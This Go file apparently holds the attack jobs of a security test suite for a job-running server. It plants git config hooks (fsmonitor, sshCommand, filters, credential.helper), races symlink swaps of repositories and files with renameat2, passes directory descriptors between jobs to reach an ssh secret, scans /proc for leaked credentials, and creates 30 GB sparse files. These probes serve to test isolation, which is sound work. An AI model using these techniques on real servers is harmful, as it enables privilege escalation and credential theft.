//go:build linux

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// lent is the number of files of one job that another job swaps for links.
const lent = 40

// moment is the pause between two swaps of a file or directory with a link.
const moment = 200 * time.Microsecond

// swapRepo makes two repositories in the job's own directory: an honest one, and one whose
// configuration names a program in every place from which git runs programs. Until the job ends,
// swapRepo exchanges the second repository for a link to a repository of the server's user, again
// and again.
func swapRepo(s *spec) (string, error) {
	for _, dir := range []string{"evil", "honest"} {
		for _, args := range [][]string{
			{"init", "-q", "-b", "main", dir}, {"-C", dir, "config", "user.email", "job@example.org"},
			{"-C", dir, "config", "user.name", "job"},
		} {
			if out, err := exec.Command("git", args...).CombinedOutput(); err != nil { //nolint:noctx // a short command
				return "", fmt.Errorf("git %v: %w: %s", args, err, out)
			}
		}
		err := os.WriteFile(dir+"/evil.txt", []byte("evil\n"), 0o644) //nolint:gosec // the server reads the file
		if err != nil {
			return "", err
		}
		script := `git -C "$0" add -A && git -C "$0" commit -qm evil`
		//nolint:noctx // a short command
		if out, err := exec.Command("sh", "-c", script, dir).CombinedOutput(); err != nil {
			return "", fmt.Errorf("%w: %s", err, out)
		}
	}
	var arms strings.Builder
	for _, section := range []string{
		"core]\n\tfsmonitor = %s\n\tsshCommand = %[1]s\n\tpager = %[1]s\n\talternateRefsCommand = %[1]s\n[",
		`filter "x"]` + "\n\tclean = %s\n\tsmudge = %[1]s\n\tprocess = %[1]s\n[",
		"diff]\n\texternal = %s\n[", "uploadpack]\n\tpackObjectsHook = %s\n[", "credential]\n\thelper = %s\n[",
	} {
		fmt.Fprintf(&arms, "["+strings.TrimSuffix(section, "["), s.Witness)
	}
	f, err := os.OpenFile("evil/.git/config", os.O_WRONLY|os.O_APPEND, 0)
	if err == nil {
		_, err = f.WriteString(arms.String())
		//nolint:gosec // the server reads the file
		err = errors.Join(err, f.Close(), os.WriteFile("evil/.gitattributes", []byte("* filter=x diff=x\n"), 0o644),
			os.WriteFile("evil/evil.txt", []byte("changed\n"), 0o644), os.Symlink(s.Private, "way"),
			os.WriteFile("armed", nil, 0o600))
	}
	if err != nil {
		return "", err
	}
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, "evil", unix.AT_FDCWD, "way", unix.RENAME_EXCHANGE); err != nil {
			return "", err
		}
		time.Sleep(moment)
	}
}

// loot reports whether the checkout has files of the server's user, which means that the attack
// succeeded, or only files of the job's user.
func loot(*spec) (string, error) {
	if raw, err := os.ReadFile("private.txt"); err == nil {
		return fmt.Sprintf("%d bytes of the server's user", len(raw)), nil
	}
	raw, err := os.ReadFile("evil.txt")
	if err != nil {
		return "", errNothing
	}
	return "", fmt.Errorf("the checkout has the job's own files: %s", strings.TrimSpace(string(raw)))
}

// lend makes files and links to a secret, and sends open file descriptors of their directories to
// every process that connects to an abstract socket.
func lend(s *spec) (string, error) {
	tmp := os.Getenv("TMPDIR")
	for i := range lent {
		name := strconv.Itoa(i)
		err := errors.Join(os.Symlink(s.Files["ssh"], tmp+"/link"+name), os.WriteFile("file"+name,
			bytes.Repeat([]byte("x"), s.Length), 0o600))
		if err != nil {
			return "", err
		}
	}
	l, err := listenAbstract(s.Token + "-lent")
	if err != nil {
		return "", err
	}
	var fds []int
	for _, dir := range []string{".", tmp} {
		fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", err
		}
		fds = append(fds, fd)
	}
	if err := os.WriteFile("ready", []byte("kept with the rest\n"), 0o600); err != nil {
		return "", err
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return "", err
		}
		if u, ok := c.(*net.UnixConn); ok {
			_, _, _ = u.WriteMsgUnix([]byte("d"), unix.UnixRights(fds...), nil)
		}
		_ = c.Close()
	}
}

// borrow gets open file descriptors of another job's directories, and swaps the files in these
// directories.
func borrow(s *spec) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), soon)
	defer cancel()
	c, err := new(net.Dialer).DialContext(ctx, "unix", "@"+s.Token+"-lent")
	if err != nil {
		return "", bare(err)
	}
	defer c.Close()
	u, ok := c.(*net.UnixConn)
	if !ok {
		return "", errNothing
	}
	oob := make([]byte, unix.CmsgSpace(2*4))
	_, n, _, _, err := u.ReadMsgUnix(make([]byte, 1), oob)
	if err != nil {
		return "", bare(err)
	}
	all, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil || len(all) == 0 {
		return "", errNothing
	}
	fds, err := unix.ParseUnixRights(&all[0])
	if err != nil || len(fds) != 2 {
		return "", errNothing
	}
	for end := time.Now().Add(2 * hold); time.Now().Before(end); {
		for i := range lent {
			_ = unix.Renameat2(fds[0], "file"+strconv.Itoa(i), fds[1], "link"+strconv.Itoa(i), unix.RENAME_EXCHANGE)
		}
		time.Sleep(moment)
	}
	return "another job's directories were handed over", nil
}

// credential looks for the credential with which the server opened the job's repository. The spec
// contains the credential in two halves, because the store contains the spec, and the test checks
// that the store does not contain the credential.
func credential(s *spec) (string, error) {
	token := []byte(strings.Join(s.Halves, ""))
	has := func(path string) bool {
		raw, err := os.ReadFile(path)
		return err == nil && bytes.Contains(raw, token)
	}
	for _, pattern := range []string{"/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline"} {
		files, _ := filepath.Glob(pattern)
		for _, path := range files {
			if has(path) {
				return "the credential is in the list of processes", nil
			}
		}
	}
	found := ""
	for _, dir := range []string{".", "..", os.Getenv("HOME"), os.Getenv("TMPDIR"), s.Base} {
		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && has(path) {
				found = path
			}
			return nil
		})
	}
	if found != "" {
		return "the credential is in " + found, nil
	}
	return "", errNothing
}

// sparse makes two sparse files of 30 GB, an untracked one and a tracked one, beside a small file
// that the patch must contain.
func sparse(*spec) (string, error) {
	if err := os.WriteFile("small.txt", []byte("to be kept\n"), 0o600); err != nil {
		return "", err
	}
	for _, name := range []string{"sparse", "notes.txt"} {
		f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE, 0o600)
		if err == nil {
			err = errors.Join(f.Truncate(30<<30), f.Close())
		}
		if err != nil {
			return "", bare(err)
		}
	}
	return "the files were made", nil
}
